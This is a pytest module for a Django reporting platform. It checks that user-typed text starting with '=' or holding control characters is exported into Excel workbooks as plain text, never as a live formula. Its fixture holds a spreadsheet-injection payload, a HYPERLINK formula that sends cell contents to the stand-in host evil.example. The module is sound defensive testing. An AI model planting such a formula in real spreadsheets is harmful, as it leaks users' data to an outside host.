"""No formula out of user text in any workbook the platform writes (OWASP "CSV injection").

Text typed by a user that starts with "=" (or holds control characters) goes into every workbook
as text: the 自评表, the district score table, the quarter summary and the quarterly entry sheet.
Each file is checked at the XML level: no ``<f>`` element anywhere, and the typed text is there.
"""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from departments.models import Department
from reports.exports.services import build_to_file
from reports.exports.xlsx import put
from reports.models import AnnualTarget, ExportKind, QuarterlyReport, Report, Section, SectionKind
from reports.quarterly.sheet import sheet_build
from reports.quarterly.upload import sheet_parse
from workflow.states import State

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
SUM = "=SUM(1,2)"
ERROR_LIKE = "#N/A"
CONTROL = "偏差\x07原因"


@pytest.fixture
def hostile(demo_quarters_loaded):
    """The demo (its report and quarters loaded once for the module) with hostile text in a department's
    name, the indicators and a quarterly report."""
    police = Department.objects.get(code="CG-GAFJ")
    Department.objects.filter(pk=police.pk).update(name=SUM)
    section = Section.objects.get(
        report__department=police, report__cycle__year=2021, kind=SectionKind.INDICATORS
    )
    row = section.data["rows"][0]
    row.update(name=HOSTILE, target="=1+1", unit=ERROR_LIKE, actual="=A2", reason=CONTROL)
    Section.objects.filter(pk=section.pk).update(data=section.data)
    station = QuarterlyReport.objects.get(year=2021, quarter=3, unit__name="城关派出所")
    target = AnnualTarget.objects.filter(unit=station.unit, year=2021).order_by("order", "pk").first()
    AnnualTarget.objects.filter(pk=target.pk).update(name=HOSTILE)
    data = {
        "rows": {
            str(target.pk): {
                "actual": "90",
                "expected": "100",
                "likelihood": "possible",
                "cause": "staff",
                "measures": SUM,
            }
        }
    }
    QuarterlyReport.objects.filter(pk=station.pk).update(data=data, state=State.APPROVED)
    report = Report.objects.get(department=police, cycle__year=2021)
    return {"police": police, "report": report, "station": QuarterlyReport.objects.get(pk=station.pk)}


def formulas(content: bytes) -> list[str]:
    """Every formula element in the workbook's sheets."""
    found = []
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                found += re.findall(rb"<(?:\w+:)?f[ >].*?</(?:\w+:)?f>", archive.read(name))
    return [f.decode() for f in found]


def texts(content: bytes) -> set[str]:
    wb = openpyxl.load_workbook(io.BytesIO(content))
    return {
        c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)
    }


def exported(kind: str, params: dict, tmp_path: Path) -> bytes:
    out = tmp_path / f"{kind}.xlsx"
    build_to_file(kind, params, out)
    return out.read_bytes()


def every_workbook(hostile, tmp_path: Path) -> dict[str, bytes]:
    police, report = hostile["police"], hostile["report"]
    ids = list(Department.objects.filter(kind="department").values_list("pk", flat=True))
    return {
        "自评表": exported(ExportKind.SELF_EVALUATION, {"report": report.pk}, tmp_path),
        "自评得分表": exported(
            ExportKind.DISTRICT_SCORES, {"year": 2021, "department_ids": [police.pk]}, tmp_path
        ),
        "季度汇总表": exported(
            ExportKind.QUARTER_SUMMARY,
            {"year": 2021, "quarter": 3, "department_ids": ids, "include_unapproved": True},
            tmp_path,
        ),
        "季度填报表": sheet_build(hostile["station"]),
    }


def test_no_workbook_holds_a_formula_made_of_user_text(hostile, tmp_path):
    workbooks = every_workbook(hostile, tmp_path)
    assert set(workbooks) == {"自评表", "自评得分表", "季度汇总表", "季度填报表"}
    for name, content in workbooks.items():
        assert formulas(content) == [], name


def test_the_typed_text_is_kept_as_text(hostile, tmp_path):
    workbooks = every_workbook(hostile, tmp_path)
    assert {HOSTILE, "=1+1", ERROR_LIKE, "=A2", "偏差原因"} <= texts(workbooks["自评表"])
    assert SUM in texts(workbooks["自评得分表"])
    assert {HOSTILE, SUM} <= texts(workbooks["季度汇总表"])
    assert {HOSTILE, SUM} <= texts(workbooks["季度填报表"])


def test_an_unchanged_quarterly_sheet_uploads_without_changes(hostile):
    parsed = sheet_parse(hostile["station"], "q3.xlsx", io.BytesIO(sheet_build(hostile["station"])))
    assert parsed.bad == [] and parsed.changes == []


def test_the_writer_quotes_text_excel_would_take_for_a_formula():
    ws = openpyxl.Workbook().active
    cell = put(ws["A1"], "=1+1")
    assert (cell.value, cell.data_type, cell.quotePrefix) == ("=1+1", "s", True)
    assert put(ws["A2"], 12).data_type == "n"
    assert put(ws["A3"], "a\x00b").value == "ab"


@pytest.mark.parametrize("texts", [
    [], [""], ["正常文本", "加快进度"], ["=SUM(1,2)"], ["正常", "#N/A"], ["第一行\n=1+1"], ["第一行\n#REF!"],
    ["a=b", "x#y"], ["含控制字符\x07"], ["\t制表符", "换行\r\n回车"], ["\x1f"], ["", "=", ""], ["正常\n"],
])
def test_a_row_is_unsafe_exactly_when_one_of_its_texts_is(texts):
    from reports.exports.xlsx import UNSAFE, any_unsafe

    assert any_unsafe(texts) == (UNSAFE.search("\n".join(texts)) is not None)
    assert any_unsafe(texts) == any(UNSAFE.search(t) for t in texts)
